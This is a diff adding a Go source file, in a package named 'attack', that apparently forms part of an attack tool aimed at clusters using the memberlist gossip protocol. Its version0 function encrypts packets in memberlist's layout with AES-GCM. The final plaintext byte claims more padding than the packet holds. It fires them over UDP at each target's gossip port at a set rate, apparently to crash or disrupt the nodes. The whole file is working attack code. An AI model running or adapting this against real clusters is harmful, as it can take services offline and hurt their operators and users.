@@ -1,0 +1,64 @@
+package attack
+
+import (
+	"context"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/rand"
+	"fmt"
+	"net"
+)
+
+// version0 sends packets of the encryption's version 0, whose last byte says how
+// much of it is padding: more than there is.
+func version0(ctx context.Context, o Order) (string, error) {
+	padding, err := o.number("padding")
+	if err != nil {
+		return "", err
+	}
+	rate, err := o.number("rate")
+	if err != nil {
+		return "", err
+	}
+	c, err := net.ListenPacket("udp", ":0")
+	if err != nil {
+		return "", err
+	}
+	defer c.Close()
+	p, sent := newPace(float64(rate)), 0
+	for p.wait(ctx) {
+		t := o.Targets[sent%len(o.Targets)]
+		key, err := t.key()
+		if err != nil {
+			return "", err
+		}
+		plain := make([]byte, 16)
+		plain[15] = byte(padding)
+		packet, err := t.seal(key, 0, plain)
+		if err != nil {
+			return "", err
+		}
+		_, _ = c.WriteTo(packet, net.UDPAddrFromAddrPort(t.Gossip)) // a target that is down refuses it
+		sent++
+	}
+	return fmt.Sprintf("sent %d packets", sent), nil
+}
+
+// seal encrypts a packet for the cluster, as memberlist lays it out: version,
+// nonce, ciphertext, with the label as additional data.
+func (t Target) seal(key []byte, version byte, plain []byte) ([]byte, error) {
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return nil, err
+	}
+	gcm, err := cipher.NewGCM(block)
+	if err != nil {
+		return nil, err
+	}
+	nonce := make([]byte, gcm.NonceSize())
+	if _, err := rand.Read(nonce); err != nil {
+		return nil, err
+	}
+	packet := append(append(t.label(), version), nonce...)
+	return gcm.Seal(packet, nonce, plain, []byte(t.Cluster)), nil
+}
